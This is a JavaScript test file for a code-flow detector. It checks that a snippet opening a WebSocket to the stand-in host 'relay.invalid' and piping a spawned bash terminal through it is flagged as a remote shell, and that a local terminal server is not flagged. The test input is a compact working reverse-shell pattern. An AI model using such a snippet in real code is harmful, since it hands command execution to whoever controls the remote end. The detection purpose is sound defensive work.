import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SHELL = `const t = require('node-pty').spawn(process.env.SHELL || 'bash', [], { cols: 80 });`;

describe('terminals', () => {
  it('give a shell to whoever is on the other side of a socket', () => {
    const flows = flowsOf(`const W = require('ws'), w = new W('wss://relay.invalid/a');
      w.once('open', () => { ${SHELL} t.onData((d) => w.send(d)); w.on('message', (m) => t.write(m.toString())); });`);
    assert.deepEqual([...new Set(flows)].toSorted(), [
      'command-output>network@relay.invalid',
      'downloaded>run-as-command',
    ]);
  });

  it('are typed into by those who use a page of the own server', () => {
    const flows = flowsOf(`const { WebSocketServer } = require('ws');
      new WebSocketServer({ port: 1 }).on('connection', (w) => { ${SHELL} t.onData((d) => w.send(d)); w.on('message', (m) => t.write(m)); });`);
    assert.deepEqual(
      flows.filter((flow) => flow.endsWith('run-as-command')),
      [],
    );
  });
});
